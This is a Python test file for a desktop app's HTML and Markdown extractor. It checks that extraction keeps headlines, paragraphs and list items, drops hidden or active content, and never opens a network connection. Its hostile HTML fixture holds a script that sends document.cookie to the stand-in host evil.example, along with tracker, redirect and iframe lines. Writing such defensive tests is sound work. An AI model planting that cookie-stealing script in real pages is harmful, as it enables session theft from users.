"""HTML and Markdown: text and paragraphs kept, everything else dropped, nothing fetched."""

from __future__ import annotations

import socket

from desktop.core.kinds import ParagraphKind
from desktop.core.markup import html_to_text, markdown_to_text
from desktop.services.sources.web import extract_article

HOSTILE = """<!doctype html>
<html><head>
<title>Baku weighs Gaza mission</title>
<meta http-equiv="refresh" content="0; url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/s.css">
<style>body { background: url(http://evil.example/bg.png) }</style>
<script>fetch('http://evil.example/steal?c=' + document.cookie)</script>
</head>
<body onload="alert(1)">
<!-- a comment that must not show -->
<nav><a href="/">Home</a> | <a href="/news">News</a></nav>
<h1>Baku weighs <em>Gaza</em> mission</h1>
<p>First paragraph with <a href="http://example.com">a link</a> &amp; an entity.</p>
<img src="http://evil.example/pixel.gif" alt="tracker">
<iframe src="http://evil.example/frame"><p>frame fallback</p></iframe>
<p>Second<br>line after a break.</p>
<script type="text/javascript">document.write('<p>injected</p>')</script>
<noscript><p>enable javascript</p></noscript>
<object data="http://evil.example/x.swf"><embed src="x.swf"></object>
<svg><text>svg text</text></svg>
<form><input value="secret"><textarea>typed</textarea></form>
<ul><li>One</li><li>Two</li></ul>
</body></html>"""


def test_hostile_html_keeps_only_the_readable_text(monkeypatch):
    def refuse(*_args, **_kwargs):
        raise AssertionError("the HTML reader tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    article = extract_article(HOSTILE)
    assert article.text.split("\n") == [
        "Baku weighs Gaza mission",  # the headline, as the article's first paragraph
        "First paragraph with a link & an entity.",
        "Second",
        "line after a break.",
    ]
    assert article.title == "Baku weighs Gaza mission"
    page = html_to_text(HOSTILE)  # the whole visible page: the menu is there, nothing hidden or active is
    assert page.text.split("\n") == [
        "Home | News",
        "Baku weighs Gaza mission",
        "First paragraph with a link & an entity.",
        "Second",
        "line after a break.",
        "One",
        "Two",
    ]
    assert page.kinds[1] is ParagraphKind.HEADING and page.kinds[-1] is ParagraphKind.LIST_ITEM
    for extracted in (article, page):
        for leaked in ("evil", "fetch", "injected", "javascript", "comment", "svg text", "secret", "typed",
                       "tracker", "frame fallback"):
            assert leaked not in extracted.text
    assert "Home" not in article.text


def test_arabic_html_keeps_paragraphs():
    page = '<html dir="rtl"><body><h1>عنوان</h1><p>فقرة أولى عن <b>غزة</b>.</p><div>فقرة ثانية</div></body></html>'
    assert html_to_text(page).text == "عنوان\nفقرة أولى عن غزة.\nفقرة ثانية"


def test_markdown_loses_its_markup_and_keeps_paragraphs():
    source = """# Title of the piece

First paragraph, **bold** and *italic*,
with a [link](http://example.com) and `code`.

![an image](http://example.com/x.png)

> A quoted line

- item one
- item two

Setext heading
--------------

snake_case_name stays.
"""
    extracted = markdown_to_text(source)
    assert extracted.title == "Title of the piece"
    assert extracted.text.split("\n") == [
        "Title of the piece",
        "First paragraph, bold and italic, with a link and code.",
        "A quoted line",
        "item one",
        "item two",
        "Setext heading",
        "snake_case_name stays.",
    ]
